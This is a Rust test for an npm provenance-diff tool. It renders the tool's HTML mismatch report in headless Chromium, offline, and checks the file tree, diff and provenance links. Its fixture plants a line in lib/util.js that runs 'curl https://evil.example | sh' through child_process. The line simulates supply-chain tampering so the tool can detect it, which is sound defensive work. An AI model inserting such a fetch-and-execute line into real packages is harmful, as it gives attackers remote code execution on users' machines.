//! The HTML report in a real browser: headless Chromium (Debian's `chromium`) loads a mismatch
//! report from disk, with every host unresolvable, and the test checks from the DOM it dumps that
//! the file tree, a side-by-side diff and the provenance links are there; it saves the report, the
//! DOM and a screenshot under `target/test-output/html-report/`. Without Chromium the test says so
//! and passes, unless `PROVDIFF_REQUIRE_CHROMIUM=1` (CI sets it).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]

mod support;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use provdiff_npm::PackedFile;
use support::{REPOSITORY, Scenario, replace, widget_files};

fn chromium() -> Option<PathBuf> {
    let path = std::env::var_os("PROVDIFF_CHROMIUM").map_or_else(|| PathBuf::from("/usr/bin/chromium"), PathBuf::from);
    if path.is_file() {
        return Some(path);
    }
    let reason = format!("{} is not installed (Debian: apt-get install chromium)", path.display());
    assert!(std::env::var("PROVDIFF_REQUIRE_CHROMIUM").as_deref() != Ok("1"), "PROVDIFF_REQUIRE_CHROMIUM=1: {reason}");
    eprintln!("skipping the HTML report test: {reason}");
    None
}

/// Runs headless Chromium on `page` with `mode` (`--dump-dom`, `--screenshot=…`), offline, in a
/// profile of its own; returns its stdout.
fn run_chromium(chromium: &Path, profile: &Path, mode: &str, page: &Path) -> String {
    let mut child = Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--no-default-browser-check",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--disable-extensions",
            "--hide-scrollbars",
            // Nothing resolves: a report that fetched anything would show it broken.
            "--host-resolver-rules=MAP * ~NOTFOUND",
            "--window-size=1280,2000",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .arg(mode)
        .arg(format!("file://{}", page.display()))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(120);
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            child.kill().unwrap();
            panic!("chromium {mode} did not finish within two minutes");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "chromium {mode} failed: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn the_html_report_renders_in_chromium() {
    let Some(chromium) = chromium() else { return };
    let scenario = Scenario::new(&widget_files(), |files| {
        replace(files, "lib/util.js", |content| {
            *content =
                b"exports.double = (x) => x * 2;\nrequire('child_process').exec('curl https://evil.example | sh');\n"
                    .to_vec()
        });
        files.push(PackedFile { path: "lib/extra.js".into(), mode: 0o644, content: b"evil();\n".to_vec() });
    });
    let out = Path::new(env!("CARGO_TARGET_TMPDIR")).join("../test-output/html-report");
    let _ = fs_err::remove_dir_all(&out);
    fs_err::create_dir_all(&out).unwrap();
    let out = fs_err::canonicalize(&out).unwrap();
    let report = out.join("report.html");
    let run = scenario.check(&["--html", report.to_str().unwrap()]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);

    let profile = tempfile::tempdir().unwrap();
    let dom = run_chromium(&chromium, profile.path(), "--dump-dom", &report);
    fs_err::write(out.join("dom.html"), &dom).unwrap();
    // The verdict, the file tree with the differing files coloured, and a side-by-side diff.
    assert!(dom.contains("<header id=\"verdict\" class=\"verdict bad\">"), "{dom}");
    assert!(dom.contains("<nav id=\"file-tree\">"), "{dom}");
    for (name, status) in [("util.js", "mismatch"), ("extra.js", "only-in-package"), ("index.js", "identical")] {
        let item = format!("<li class=\"file {status}\" title=\"lib/{name}\">");
        let item =
            if name == "index.js" { "<li class=\"file identical\" title=\"index.js\">".to_string() } else { item };
        assert!(dom.contains(&item), "no {item} in the tree:\n{dom}");
    }
    assert!(dom.contains("<table class=\"diff\">"), "{dom}");
    assert!(
        dom.contains("<td class=\"add\">require('child_process').exec('curl https://evil.example | sh');</td>"),
        "{dom}"
    );
    assert!(dom.contains("<code class=\"path\">lib/util.js</code>"), "{dom}");
    // The verified provenance, linked to the commit and the workflow file at that commit.
    let commit = &scenario.commit;
    assert!(dom.contains(&format!("href=\"{REPOSITORY}/commit/{commit}\"")), "{dom}");
    assert!(dom.contains(&format!("href=\"{REPOSITORY}/blob/{commit}/.github/workflows/publish.yml\"")), "{dom}");

    let screenshot = out.join("screenshot.png");
    run_chromium(&chromium, profile.path(), &format!("--screenshot={}", screenshot.display()), &report);
    let png = fs_err::read(&screenshot).unwrap();
    assert!(png.starts_with(b"\x89PNG\r\n\x1a\n") && png.len() > 20_000, "{} bytes", png.len());
    eprintln!("the report, its DOM and a screenshot are in {}", out.display());
}
